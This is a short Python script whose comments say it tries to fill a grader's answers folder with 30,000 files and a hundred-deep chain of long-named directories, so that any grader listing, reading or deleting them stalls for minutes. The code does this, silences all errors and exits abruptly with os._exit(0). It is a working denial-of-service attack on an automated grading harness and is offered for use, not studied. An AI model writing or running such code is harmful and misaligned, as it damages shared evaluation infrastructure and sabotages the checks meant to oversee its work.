# tries: fills the folder of answers with 30,000 files and folders a hundred deep
# gain: a grader that lists, reads or removes them for minutes
# only: ours

# %% end
import os
try:
    for number in range(30_000):
        open(f"../answers/rnnt-attack-{number}.json", "w").close()
except OSError:
    pass
try:
    os.chdir("../answers")
    for _ in range(100):
        os.mkdir("d" * 200); os.chdir("d" * 200)
except OSError:
    pass
os._exit(0)
